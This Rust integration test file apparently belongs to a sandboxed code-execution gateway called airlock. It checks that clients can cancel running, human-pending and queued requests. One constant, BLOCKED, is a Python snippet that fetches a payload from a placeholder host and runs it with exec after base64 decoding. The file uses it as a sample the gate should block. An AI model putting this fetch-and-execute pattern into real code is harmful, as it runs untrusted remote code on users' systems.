//! A client cancels its request, whatever the request is doing: running (its container is
//! killed at once, its output so far kept), or waiting for a human (the override is withdrawn).
//! Either way it ends with exactly one `cancelled` terminal event naming who asked and why, the
//! cancellation itself is on the record, and a request that already ended stays as it ended.

use airlock_protocol::{Event, EventKind, Outcome};
use airlock_tests::{Stack, events_of, finish_run, start_long_run, terminals};
use futures::StreamExt as _;
use std::time::{Duration, Instant};

/// Prints, then sleeps far longer than any test waits.
const LONG: &str = "import time\nprint('started', flush=True)\ntime.sleep(60)\nprint('never')\n";

/// External code that downloads and executes a payload: BLOCKED, so a human is asked.
const BLOCKED: &str = "import base64, urllib.request\n\
payload = urllib.request.urlopen('http://example.invalid/p').read()\n\
exec(base64.b64decode(payload))\n";

fn cancel(stack: &Stack, rid: &str, reason: &str) -> (i32, String) {
    let out = stack.output(&["cancel", rid, "--reason", reason]);
    (
        out.status.code().unwrap_or(-1),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    )
}

async fn assert_one_cancelled_terminal(stack: &Stack, rid: &str, reason: &str) {
    let ended = terminals(stack, rid).await;
    assert_eq!(ended.len(), 1, "{ended:?}");
    assert_eq!(ended[0].outcome, Outcome::Cancelled, "{ended:?}");
    let said = ended[0].reason.as_deref().unwrap_or_default();
    assert!(
        said.contains("cancelled by its client mai") && said.contains(reason),
        "{said}"
    );
    let events = events_of(stack, rid).await;
    assert!(
        events
            .iter()
            .any(|e| matches!(&e.event, Event::CancelRequested(c) if c.reason == reason)),
        "the cancellation is not on the record: {:?}",
        airlock_tests::kinds(&events)
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_running_program_is_killed_and_ends_cancelled_with_its_output_so_far() {
    let stack = tokio::task::spawn_blocking(Stack::start).await.expect("stack");
    let (child, rid) = start_long_run(&stack, "long.py", LONG).await;
    // Its first line is out: the program is running.
    let start = Instant::now();
    while !events_of(&stack, &rid)
        .await
        .iter()
        .any(|e| e.kind() == EventKind::Output)
    {
        assert!(
            start.elapsed() < Duration::from_secs(30),
            "no output:\n{}",
            stack.diagnostics()
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let asked = Instant::now();
    let (status, said) = cancel(&stack, &rid, "the user left");
    let took = asked.elapsed();
    assert_eq!(status, 0, "{said}");
    assert!(said.contains("cancelled"), "{said}");
    let (json, status) = finish_run(child);
    assert_eq!(status, 6, "airlock run exits 6 for a cancelled request: {json}");
    assert_eq!(json["outcome"], "cancelled", "{json}");
    assert_eq!(json["stdout"], "started\n", "{json}");
    // Well before the program's own end (60 s): it was stopped, not waited for.
    assert!(took < Duration::from_secs(30), "took {took:?}");
    eprintln!("airlock cancel to the cancelled terminal, as a new process: {took:?}");
    assert_one_cancelled_terminal(&stack, &rid, "the user left").await;

    // Ctrl-C at `airlock run` cancels the request, not only the wait for it.
    let (child, interrupted) = start_long_run(&stack, "interrupted.py", LONG).await;
    airlock_tests::signal(child.id(), libc::SIGINT);
    let (json, status) = finish_run(child);
    assert_eq!(status, 6, "{json}");
    assert_eq!(json["request_id"], interrupted.as_str());
    assert!(
        json["reason"]
            .as_str()
            .unwrap_or_default()
            .contains("airlock run was interrupted (Ctrl-C)"),
        "{json}"
    );

    // Too late: a request that ended stays as it ended.
    let (json, status) = stack.run_code("quick.py", "print('done')\n", &[]);
    assert_eq!(status, 0, "{json}");
    let done = json["request_id"].as_str().expect("request id").to_owned();
    let (status, said) = cancel(&stack, &done, "changed my mind");
    assert_eq!(status, 7, "{said}");
    assert!(said.contains("already ended (finished)"), "{said}");
    let ended = terminals(&stack, &done).await;
    assert_eq!(ended.len(), 1);
    assert_eq!(ended[0].outcome, Outcome::Finished);

    // A cancellation needs a reason, and only for this client's own requests.
    let (status, said) = cancel(&stack, &rid, "   ");
    assert_eq!(status, 2, "{said}");
    let (status, said) = cancel(&stack, "bob.r1", "not mine");
    assert_eq!(status, 2, "{said}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_waiting_for_a_human_is_withdrawn() {
    let stack = tokio::task::spawn_blocking(|| Stack::start_with("[gate]\noverride_timeout = \"120s\"\n"))
        .await
        .expect("stack");
    let child = stack.run_in_background("blocked.py", BLOCKED, &["--origin", "external"]);
    let start = Instant::now();
    let rid = loop {
        let out = stack.output(&["override", "list", "--json"]);
        let list: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
        if let Some(id) = list
            .as_array()
            .and_then(|l| l.first())
            .and_then(|i| i["request_id"].as_str())
        {
            break id.to_owned();
        }
        assert!(
            start.elapsed() < Duration::from_secs(60),
            "never pending:\n{}",
            stack.diagnostics()
        );
        std::thread::sleep(Duration::from_millis(300));
    };
    let (status, said) = cancel(&stack, &rid, "no longer needed");
    assert_eq!(status, 0, "{said}");
    let (json, status) = finish_run(child);
    assert_eq!(status, 6, "{json}");
    assert_eq!(json["outcome"], "cancelled", "{json}");
    assert_one_cancelled_terminal(&stack, &rid, "no longer needed").await;
    let events = events_of(&stack, &rid).await;
    assert!(
        !events.iter().any(|e| e.kind() == EventKind::ExecStarted),
        "a withdrawn request ran"
    );
    assert!(
        !events.iter().any(|e| e.kind() == EventKind::Decided),
        "a withdrawn request was decided"
    );
    // No longer waiting, and an answer now is too late.
    let out = stack.output(&["override", "list", "--json"]);
    let list: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
    assert_eq!(list.as_array().map(Vec::len), Some(0), "{list}");
    let out = stack.output(&["override", "approve", &rid, "--reason", "late", "--who", "tester"]);
    assert!(!out.status.success(), "an answer to a withdrawn request was accepted");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_waiting_for_its_turn_ends_without_running() {
    let stack = tokio::task::spawn_blocking(|| Stack::start_with("[executor.host]\nmax_concurrent = 1\n"))
        .await
        .expect("stack");
    let (first, running) = start_long_run(&stack, "first.py", LONG).await;
    let second = stack.run_in_background("second.py", "print('my turn')\n", &[]);
    // The second waits behind the first (approved, then queued for the one slot, or held for
    // the audit log on a busy machine): its stage says so.
    let start = Instant::now();
    let queued = loop {
        let looked = waiting_requests(&stack, &running).await;
        if let Ok(Some(rid)) = looked.as_ref().map(|found| found.first()) {
            break rid.clone();
        }
        assert!(
            start.elapsed() < Duration::from_secs(60),
            "nothing queued (last look: {looked:?}):\n{}",
            stack.diagnostics()
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    let (status, said) = cancel(&stack, &queued, "not needed any more");
    assert_eq!(status, 0, "{said}");
    let (json, status) = finish_run(second);
    assert_eq!(status, 6, "{json}");
    assert_one_cancelled_terminal(&stack, &queued, "not needed any more").await;
    let events = events_of(&stack, &queued).await;
    assert!(
        !events.iter().any(|e| e.kind() == EventKind::ExecStarted),
        "a cancelled waiting request ran"
    );
    // The first ran on all along, and is cancelled in turn.
    assert!(
        terminals(&stack, &running).await.is_empty(),
        "the running request ended early"
    );
    let (status, said) = cancel(&stack, &running, "done with it");
    assert_eq!(status, 0, "{said}");
    let (json, status) = finish_run(first);
    assert_eq!((status, json["outcome"].as_str()), (6, Some("cancelled")), "{json}");
}

/// Requests other than `except` whose last stage says they are approved and wait to run, or
/// why they could not be read (said in the test's failure rather than taken for "none").
async fn waiting_requests(stack: &Stack, except: &str) -> Result<Vec<String>, String> {
    let admin = stack.connect("admin").await;
    let js = async_nats::jetstream::new(admin);
    let stream = js
        .get_stream(airlock_protocol::subjects::EVENTS_STREAM)
        .await
        .map_err(|e| format!("events stream: {e}"))?;
    let mut listed = stream
        .info_with_subjects(format!("{}.>", EventKind::Progress.subject_prefix()))
        .await
        .map_err(|e| format!("progress subjects: {e}"))?;
    let mut subjects = vec![];
    while let Some(item) = listed.next().await {
        subjects.push(item.map_err(|e| format!("progress subjects: {e}"))?.0);
    }
    let mut queued = vec![];
    let mut stages = vec![];
    for subject in subjects {
        let message = stream
            .direct_get_last_for_subject(subject.clone())
            .await
            .map_err(|e| format!("last of {subject}: {e}"))?;
        let envelope = airlock_protocol::Envelope::decode_on(&subject, &message.payload)
            .map_err(|e| format!("last of {subject}: {e}"))?;
        if envelope.request_id.as_str() == except {
            continue;
        }
        match envelope.event {
            Event::Progress(
                airlock_protocol::Progress::Approved { .. }
                | airlock_protocol::Progress::Queued { .. }
                | airlock_protocol::Progress::WaitingForAuditLog { .. }
                | airlock_protocol::Progress::WaitingForEngine { .. },
            ) => queued.push(envelope.request_id.to_string()),
            other => stages.push(format!("{}: {other:?}", envelope.request_id)),
        }
    }
    if queued.is_empty() && !stages.is_empty() {
        return Err(format!("none waiting; other requests' last stages: {stages:?}"));
    }
    Ok(queued)
}
